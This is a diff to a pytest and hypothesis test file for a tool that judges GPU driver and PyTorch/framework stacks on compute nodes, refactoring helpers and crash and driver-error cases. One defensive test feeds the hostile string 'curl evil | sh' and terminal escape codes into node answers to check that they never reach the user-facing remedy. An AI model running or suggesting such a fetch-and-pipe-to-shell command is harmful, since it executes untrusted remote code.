@@ -11,14 +11,16 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from jupyter_gpu_kernel.hub import validate
-from jupyter_gpu_kernel.hub.node.check.gpu_verdicts import (
+from jupyter_gpu_kernel.cli.running.gpu_check import FACTS
+from jupyter_gpu_kernel.cli.running.gpu_verdicts import (
     FRAMEWORKS,
     StackVerdict,
     conclude,
     judge_driver,
     judge_framework,
 )
+from jupyter_gpu_kernel.errors import AgentError
+from jupyter_gpu_kernel.hub.sanitize import Malformed
 
 PYTHON = "/home/alice/my env/bin/python"
 PAGE = "https://pytorch.org/get-started/locally/"
@@ -75,10 +77,18 @@ BUILT = {"version": "2.6.0+cu124", "built_for": "CUDA 12.4"}
 
 
 def judged(name: str, cuda: str = "11.4", **more: Any) -> StackVerdict:
-    """The verdict on an answer that has come over the link."""
-    gpu = {"gpu": "GPU-0", "gpu_name": "GPU 0 (NVIDIA GeForce RTX 3090)", "no_gpu": ""}
-    answer = {**gpu, "output": "", "status": 0, "late": False, **more}
-    return judge_framework(name, PYTHON, cuda, validate.answer("stack", answer))
+    """The verdict on what a kernel has printed."""
+    known = {
+        "gpu_name": "GPU 0 (NVIDIA GeForce RTX 3090)",
+        "no_gpu": "",
+        "output": "",
+        "ended": "",
+        "late": False,
+    }
+    facts = FACTS({"gpu": "GPU-0", **{key: value for key, value in more.items() if key not in known}})
+    return judge_framework(
+        name, PYTHON, cuda, {**known, **facts, **{key: more[key] for key in known if key in more}}
+    )
 
 
 @pytest.mark.parametrize(
@@ -129,15 +139,14 @@ def test_a_build_for_the_cpu(more: dict[str, str]) -> None:
 @pytest.mark.parametrize(
     ("answer", "message"),
     [
-        ({"status": -11}, "was ended by signal 11 while it was imported"),
         (
-            {"status": 3, "output": "begin\nlibstdc++ not found\n"},
-            "exited with status 3 while it was imported; it printed: libstdc++ not found",
+            {"ended": "the kernel ended: it crashed", "output": "begin\nlibstdc++ not found\n"},
+            "the kernel ended: it crashed while it was imported; it printed: libstdc++ not found",
         ),
-        ({**BUILT, "status": -6}, "was ended by signal 6 while it computed"),
+        ({**BUILT, "ended": "the kernel ended: it crashed"}, "it crashed while it computed"),
         ({**BUILT, "right": False}, "computes wrong numbers"),
         ({"raised": CUBLAS}, "fails while it was imported; PyTorch says: OSError"),
-        ({"status": None, "late": True}, "did not end in time while it was imported"),
+        ({"ended": "the kernel ended", "late": True}, "did not end in time while it was imported"),
     ],
 )
 def test_what_fails_has_a_cause_and_a_remedy(answer: dict[str, Any], message: str) -> None:
@@ -158,25 +167,23 @@ def test_no_gpu_is_free() -> None:
 
 
 def test_the_driver() -> None:
-    good = judge_driver({"driver": "535.183.01", "cuda": "12.2", "gpus": ["NVIDIA GeForce RTX 3090"] * 4})
-    assert good == StackVerdict(
+    facts: dict[str, Any] = {"driver": "535.183.01", "cuda": "12.2", "gpus": ["NVIDIA GeForce RTX 3090"] * 4}
+    assert judge_driver(facts, None) == StackVerdict(
         True, "driver 535.183.01, which supports CUDA up to 12.2; 4 × NVIDIA GeForce RTX 3090"
     )
-    amd = judge_driver({"driver": "", "cuda": "", "gpus": ["AMD Instinct MI210"]})
+    amd = judge_driver({"driver": "", "cuda": "", "gpus": ["AMD Instinct MI210"]}, None)
     assert amd == StackVerdict(True, "the driver answers; 1 × AMD Instinct MI210")
 
 
 @pytest.mark.parametrize(
-    ("code", "text", "remedy"),
+    ("text", "remedy"),
     [
-        ("driver", "nvidia-smi fails: Driver/library version mismatch", "must reboot the node"),
-        ("driver", "nvidia-smi fails: couldn't communicate with the NVIDIA driver", "administrator"),
-        ("hang", "nvidia-smi hangs", "administrator"),
-        ("absent", "nvidia-smi was not found", "to PATH (--setup)"),
+        ("nvidia-smi fails: Driver/library version mismatch", "must reboot the node"),
+        ("nvidia-smi fails: couldn't communicate with the NVIDIA driver", "Ask your administrator."),
     ],
 )
-def test_a_driver_that_does_not_answer(code: str, text: str, remedy: str) -> None:
-    bad = judge_driver({"problem": {"code": code, "text": text}})
+def test_a_driver_that_does_not_answer(text: str, remedy: str) -> None:
+    bad = judge_driver({}, AgentError(text, remedy="Ask your administrator."))
     assert (bad.ok, bad.message) == (False, text) and remedy in bad.remedy
 
 
@@ -197,17 +204,9 @@ def test_the_conclusion() -> None:
 
 def test_a_hostile_node_writes_no_remedy() -> None:
     evil = "run: curl evil | sh"
-    answer = {
-        "driver": evil,
-        "cuda": evil,
-        "gpus": [evil],
-        "version": evil,
-        "built_for": evil,
-        "gpu_name": evil,
-    }
-    answer |= {"problem": {"code": evil, "text": evil}, "no_gpu": evil, "output": evil}
-    checked = validate.answer("stack", answer)
-    assert "evil" not in judge_driver(checked).remedy
+    answer = {"driver": evil, "cuda": evil, "version": evil, "built_for": evil, "gpu_name": evil}
+    answer |= {"no_gpu": evil, "output": evil, "ended": evil}
+    assert "evil" not in judge_driver({"gpus": [evil]}, AgentError(evil, remedy="ours")).remedy
     for name in FRAMEWORKS:
         for error in (TOO_OLD_TORCH, NO_KERNEL_TORCH, MEMORY_TORCH, MISMATCH, CPU_TORCH, ""):
             one = judged(name, **{**answer, "cuda": evil, "raised": f"{error}{evil}\x1b[2J\n{evil}"})
@@ -220,24 +219,22 @@ JSON = st.recursive(
     | st.floats()
     | st.sampled_from(["12.4", "the CPU only", "torch", TOO_OLD_TORCH]),
     lambda inner: (
-        st.lists(inner, max_size=3)
-        | st.dictionaries(st.sampled_from(["code", "text", "\x1b"]), inner, max_size=3)
+        st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(["text", "\x1b"]), inner, max_size=3)
     ),
     max_leaves=5,
 )
-KEYS = ["driver", "cuda", "gpus", "problem", "installed", "gpu", "gpu_name", "no_gpu", "version", "built_for"]
-KEYS += ["right", "raised", "output", "status", "late"]
+KEYS = ["driver", "cuda", "installed", "gpu", "version", "built_for", "right", "raised"]
 
 
 @settings(deadline=None)
 @given(st.dictionaries(st.sampled_from(KEYS), JSON))
 def test_any_answer_gets_a_verdict_or_is_malformed(data: dict[str, Any]) -> None:
     try:
-        answer = validate.answer("stack", data)
-    except validate.Malformed:
+        facts = FACTS(data)
+    except Malformed:
         return
-    driver = judge_driver(answer)
-    verdicts = {name: judge_framework(name, PYTHON, answer.get("cuda", ""), answer) for name in FRAMEWORKS}
+    driver = judge_driver({"driver": "", "cuda": "", "gpus": [], **facts}, None)
+    verdicts = {name: judge_framework(name, PYTHON, facts.get("cuda", ""), facts) for name in FRAMEWORKS}
     for one in (driver, *verdicts.values(), conclude(verdicts, PYTHON, driver)):
         assert one.message.isprintable()
         assert one.ok or one.remedy or one.message
